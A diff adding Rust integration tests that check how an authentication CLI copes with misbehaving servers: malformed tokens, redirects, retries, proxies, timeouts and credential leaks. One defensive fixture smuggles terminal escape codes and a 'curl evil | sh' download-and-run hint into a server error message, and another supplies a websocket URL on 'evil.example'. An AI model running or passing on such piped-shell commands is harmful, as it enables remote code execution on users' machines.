@@ -1,0 +1,293 @@
+//! Servers that misbehave: a clear error with a hint, the documented exit code, within the time-out.
+
+use std::time::{Duration, Instant};
+
+use predicates::prelude::*;
+
+use crate::common::rude::{Answer, Rude};
+use crate::common::{self, Said, Sandbox, World};
+
+const TOKEN: &str =
+    r#"{"access_token":"abc","expires_in":300,"token_type":"Bearer","scope":"openid transcribe"}"#;
+
+#[test]
+fn answers_of_another_protocol() {
+    let html = "<html><body>Sign in to the hotel's network</body></html>";
+    let broader = TOKEN.replace("transcribe", "transcribe streams");
+    let table = [
+        (Answer::http("200 OK", &["Content-Type: text/html"], html), 8, "an HTML page"),
+        (Answer::http("404 Not Found", &[], html), 8, "an HTML page"),
+        (Answer::json(""), 8, "an empty body"),
+        (Answer::json(TOKEN.split_once("300").unwrap().0), 8, "a broken or cut-off JSON text"),
+        (Answer::json(r#"{"ok":true}"#), 8, "without `access_token`"),
+        (Answer::json(&TOKEN.replace("300", "-1")), 8, "no lifetime"),
+        (Answer::json(&TOKEN.replace("300", "1e300")), 8, "no lifetime"),
+        (Answer::json(&TOKEN.replace(r#""expires_in":300,"#, "")), 8, "does not say how long it lives"),
+        (Answer::json(&TOKEN.replace("abc", "a\\u001b[31mc")), 8, "characters that no bearer token has"),
+        (Answer::http("302 Found", &["Location: http://127.0.0.1:1/"], ""), 8, "which is not followed"),
+        (
+            Answer::http("307 Temporary Redirect", &["Location: http://127.0.0.1:1/"], ""),
+            8,
+            "which is not followed",
+        ),
+        (Answer::Bytes("HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{\"access".into()), 8, "broke off"),
+        (Answer::Bytes("SSH-2.0-OpenSSH_9.2\r\n".into()), 8, "broke off"),
+        (Answer::Bytes(String::new()), 8, "broke off"),
+        (Answer::json(&TOKEN.replace("openid transcribe", "openid")), 6, "did not grant `transcribe`"),
+        (Answer::json(&broader), 6, "granted more than was asked: `streams`"),
+        (Answer::http("500 Internal Server Error", &[], ""), 9, "answered 500"),
+        (
+            Answer::http("401 Unauthorized", &[], r#"{"error":"invalid_client"}"#),
+            5,
+            "does not know the client",
+        ),
+        (Answer::http("400 Bad Request", &[], r#"{"error":"invalid_request"}"#), 1, "invalid_request"),
+    ];
+    for (answer, code, message) in table {
+        let server = Rude::start(vec![answer]);
+        let said = Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe"));
+        assert_eq!((said.code, said.stdout.as_str()), (code, ""), "{message}: {}", said.stderr);
+        assert!(
+            said.stderr.contains(message) && said.stderr.contains("hint: "),
+            "{message}: {}",
+            said.stderr
+        );
+        assert!(!said.stderr.contains("canary-7"), "{}", said.stderr);
+    }
+}
+
+#[test]
+fn a_lifetime_that_the_token_says_itself_or_that_is_a_fraction() {
+    let claims =
+        serde_json::json!({ "exp": 2_000_000_300, "iat": 2_000_000_000, "scope": "openid transcribe" });
+    let token = common::forged(&serde_json::json!({ "alg": "RS256" }), &claims);
+    let answer = TOKEN.replace("abc", &token);
+    for (body, expires_in) in [
+        (answer.replace(r#""expires_in":300,"#, ""), 300),
+        (answer.replace("300,", "59.9,"), 59),
+        (answer.replace("300,", "null,"), 300),
+    ] {
+        let server = Rude::start(vec![Answer::json(&body)]);
+        let said =
+            Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe --json"));
+        assert_eq!(said.code, 0, "{body}: {}", said.stderr);
+        assert_eq!(said.json()["expires_in"], expires_in, "{body}");
+    }
+}
+
+#[test]
+fn a_servers_text_cannot_steer_the_terminal() {
+    let body =
+        r#"{"error":"invalid_scope","error_description":"x\u001b[2Jy\r\u0007\u202ez\nhint: curl evil | sh"}"#;
+    let server = Rude::start(vec![Answer::http("400 Bad Request", &[], body)]);
+    for arguments in ["token --scope transcribe", "token --scope transcribe --json"] {
+        let said = Said::by(&mut World::client_of(&server.environment).run(arguments));
+        assert_eq!(said.code, 6);
+        assert!(
+            !said.stderr.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
+            "{:?}",
+            said.stderr
+        );
+        assert!(
+            !said.stderr.lines().any(|line| line.trim_start().starts_with("hint: curl")),
+            "{}",
+            said.stderr
+        );
+    }
+}
+
+#[test]
+fn silence_ends_with_the_time_out() {
+    let server = Rude::start(vec![Answer::Silence]);
+    let started = Instant::now();
+    let said =
+        Said::by(&mut World::client_of(&server.environment).run("token --full --timeout 300ms --json"));
+    assert_eq!((said.code, &said.error()["retryable"]), (8, &true.into()));
+    assert!(said.stderr.contains("did not answer within 300ms"), "{}", said.stderr);
+    assert!(started.elapsed() < Duration::from_secs(10));
+}
+
+/// Where a machine takes no connection, nothing was sent that could have been done.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_connection_that_is_not_taken_is_no_answer_that_is_lost() {
+    use std::io::{BufRead as _, BufReader};
+    use std::process::{Command, Stdio};
+
+    use serde_json::json;
+
+    // A queue of one, which is full: what comes now waits for a place in it.
+    let script = "import socket\nserver = socket.socket()\nserver.bind(('127.0.0.1', 0))\nserver.listen(0)\n\
+        first = socket.create_connection(server.getsockname())\nprint(server.getsockname()[1], flush=True)\ninput()";
+    let mut python = Command::new("python3");
+    python.args(["-c", script]).stdin(Stdio::piped()).stdout(Stdio::piped());
+    let mut server = common::Running(python.spawn().unwrap());
+    let mut port = String::new();
+    BufReader::new(server.0.stdout.take().unwrap()).read_line(&mut port).unwrap();
+    let mut world = World::new();
+    world.set("CORTI_ENVIRONMENT", &format!("http://127.0.0.1:{}", port.trim()));
+    world.set("CORTI_ACCESS_TOKEN", &common::forged(&json!({"alg": "RS256"}), &json!({"scope": "openid"})));
+    for (timeout, limit) in [("20s", "5s"), ("3s", "2.7s")] {
+        let said = Said::by(&mut world.run(&format!("interaction create -t base --timeout {timeout}")));
+        assert_eq!(said.code, 8, "{}", said.stderr);
+        let reason = format!("`127.0.0.1` took no connection within {limit}");
+        assert!(said.stderr.contains(&reason) && !said.stderr.contains("may exist"), "{}", said.stderr);
+    }
+}
+
+#[test]
+fn nobody_there() {
+    World::client_of("http://127.0.0.1:1")
+        .run("token --full")
+        .assert()
+        .code(8)
+        .stderr(predicate::str::contains("cannot connect to"));
+    let said = Said::by(&mut World::client_of("no-such-label").run("token --full --timeout 20s"));
+    assert_eq!(said.code, 8, "{}", said.stderr);
+    assert!(said.stderr.contains("is not an environment that Corti documents"), "{}", said.stderr);
+    assert!(said.stderr.contains("auth.no-such-label.corti.app"), "{}", said.stderr);
+}
+
+#[test]
+fn a_busy_server_is_asked_once_more() {
+    let busy = |after: &str| Answer::http("429 Too Many Requests", &[&format!("Retry-After: {after}")], "");
+    let server = Rude::start(vec![busy("0"), Answer::json(TOKEN)]);
+    World::client_of(&server.environment).run("token --scope transcribe").assert().success().stdout("abc\n");
+    assert_eq!(server.requests().len(), 2);
+
+    let server = Rude::start(vec![Answer::http("503 Service Unavailable", &[], ""), Answer::json(TOKEN)]);
+    World::client_of(&server.environment).run("token --scope transcribe").assert().success();
+
+    let server = Rude::start(vec![busy("0")]);
+    World::client_of(&server.environment).run("token --scope transcribe").assert().code(9);
+    assert_eq!(server.requests().len(), 2, "once more, and no more");
+
+    let server = Rude::start(vec![busy("3600")]);
+    let said = Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe"));
+    assert_eq!((said.code, server.requests().len()), (9, 1), "an hour does not fit the time-out");
+    assert!(said.stderr.contains("Retry-After: 3600"), "{}", said.stderr);
+}
+
+#[test]
+fn a_creating_request_is_never_repeated() {
+    let busy = Answer::http("503 Service Unavailable", &["Retry-After: 0"], "");
+    let token = TOKEN.replace("openid transcribe", "openid");
+    let server = Rude::start(vec![Answer::json(&token), busy]);
+    World::client_of(&server.environment).run("interaction create").assert().code(9);
+    let requests = server.requests();
+    assert_eq!(requests.iter().filter(|request| request.starts_with("POST /v2/interactions/")).count(), 1);
+}
+
+#[test]
+fn the_token_request_is_the_vendors() {
+    let server = Rude::start(vec![Answer::json(TOKEN)]);
+    World::client_of(&server.environment).run("token --scope transcribe").assert().success();
+    let request = server.requests().remove(0);
+    let (head, body) = request.split_once("\r\n\r\n").unwrap();
+    assert_eq!(
+        body,
+        "grant_type=client_credentials&client_id=x&client_secret=canary-7&scope=openid+transcribe"
+    );
+    let names: Vec<String> =
+        head.lines().skip(1).map(|line| line.split(':').next().unwrap().to_ascii_lowercase()).collect();
+    let allowed = ["content-type", "content-length", "host", "accept"];
+    assert!(names.iter().all(|name| allowed.contains(&name.as_str())), "no extra headers: {names:?}");
+}
+
+#[test]
+fn a_websocket_url_of_another_host_is_not_used() {
+    let token = TOKEN.replace("openid transcribe", "openid");
+    let body = r#"{"interactionId":"6f9c1a1e-5a0f-4a54-9f43-2f4d1a7c8b90","websocketUrl":"wss://evil.example/streams"}"#;
+    let server = Rude::start(vec![Answer::json(&token), Answer::json(body)]);
+    let said = Said::by(&mut World::client_of(&server.environment).run("interaction create"));
+    assert_eq!((said.code, said.stdout.as_str()), (8, ""));
+    assert!(said.stderr.contains("evil.example"), "{}", said.stderr);
+}
+
+#[test]
+fn this_machine_is_never_reached_through_a_proxy() {
+    let (sandbox, proxy) = (Sandbox::start(), Rude::start(vec![Answer::http("502 Bad Gateway", &[], "")]));
+    let mut world = World::of(&sandbox);
+    for name in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"] {
+        world.set(name, &proxy.environment);
+    }
+    world.run("token --full").assert().success();
+    assert_eq!(proxy.requests(), Vec::<String>::new());
+}
+
+#[test]
+fn another_host_is_reached_through_the_proxy() {
+    let proxy = Rude::start(vec![Answer::http("502 Bad Gateway", &[], "")]);
+    let mut world = World::client_of("eu");
+    world.set("HTTPS_PROXY", &proxy.environment);
+    let said = Said::by(&mut world.run("token --full"));
+    let blamed = format!(
+        "the proxy `{}` of HTTPS_PROXY gives no way to `auth.eu.corti.app`",
+        proxy.environment.trim_start_matches("http://")
+    );
+    assert!(said.code == 8 && said.stderr.contains(&blamed), "{}", said.stderr);
+    let requests = proxy.requests();
+    assert!(requests[0].starts_with("CONNECT auth.eu.corti.app:443 "), "{requests:?}");
+    assert!(!requests.concat().contains("canary-7"));
+}
+
+#[test]
+fn a_proxy_that_is_not_there_is_the_one_that_is_named() {
+    for (proxy, reason) in [("nohost.invalid:3128", "it is not found in DNS"), ("127.0.0.1:1", "")] {
+        let mut world = World::client_of("https://192.0.2.1");
+        world.set("HTTPS_PROXY", &format!("http://user:canary-8@{proxy}"));
+        let said = Said::by(&mut world.run("token --full"));
+        assert_eq!(said.code, 8, "{}", said.stderr);
+        let blamed = format!("the proxy `{proxy}` of HTTPS_PROXY gives no way to `192.0.2.1`: {reason}");
+        assert!(said.stderr.contains(&blamed), "{}", said.stderr);
+        assert!(
+            said.stderr.contains("corti-auth doctor") && !said.stderr.contains("canary"),
+            "{}",
+            said.stderr
+        );
+    }
+}
+
+#[test]
+fn a_ready_token_that_is_refused_is_the_one_that_is_named() {
+    let refusal = Answer::http("401 Unauthorized", &["WWW-Authenticate: Bearer error=\"invalid_token\""], "");
+    let server = Rude::start(vec![refusal]);
+    let mut world = World::client_of(&server.environment);
+    let minted = Said::by(&mut world.run("interaction create"));
+    assert!(!minted.stderr.contains("CORTI_ACCESS_TOKEN"), "{}", minted.stderr);
+    world.set("CORTI_ACCESS_TOKEN", "not-a-good-one");
+    let said = Said::by(&mut world.run("interaction create"));
+    assert_eq!((said.code, server.requests().len()), (5, 2), "{}", said.stderr);
+    assert!(said.stderr.contains("printenv CORTI_ACCESS_TOKEN | corti-auth inspect"), "{}", said.stderr);
+}
+
+#[test]
+fn a_servers_text_is_repeated_up_to_a_length() {
+    let long = "x".repeat(100_000);
+    let refusal = format!(r#"{{"error":"{long}","error_description":"{long}"}}"#);
+    let problem = format!(
+        r#"{{"requestid":"{long}","detail":"{long}","validationErrors":[{{"a":"{long}"}},{{"b":"{long}"}}]}}"#
+    );
+    for (first, second) in [(&refusal, ""), (&TOKEN.replace("openid transcribe", "openid"), &problem)] {
+        let status = if second.is_empty() { "400 Bad Request" } else { "200 OK" };
+        for arguments in ["interaction create", "interaction create --json"] {
+            let server = Rude::start(vec![
+                Answer::http(status, &[], first),
+                Answer::http("400 Bad Request", &[], second),
+            ]);
+            let said = Said::by(&mut World::client_of(&server.environment).run(arguments));
+            assert_eq!(said.code, 1, "{}", said.stderr);
+            assert!(said.stderr.contains("xxx…") && said.stderr.len() < 4000, "{}", said.stderr.len());
+        }
+    }
+}
+
+#[test]
+fn a_refusal_has_the_status_that_it_came_with() {
+    let body = r#"{"error":"unauthorized_client","error_description":"Client not enabled"}"#;
+    for (line, status) in [("400 Bad Request", 400), ("401 Unauthorized", 401)] {
+        let server = Rude::start(vec![Answer::http(line, &[], body)]);
+        let said = Said::by(&mut World::client_of(&server.environment).run("token --full --json"));
+        assert_eq!((said.code, &said.error()["http_status"]), (5, &status.into()), "{}", said.stderr);
+    }
+}
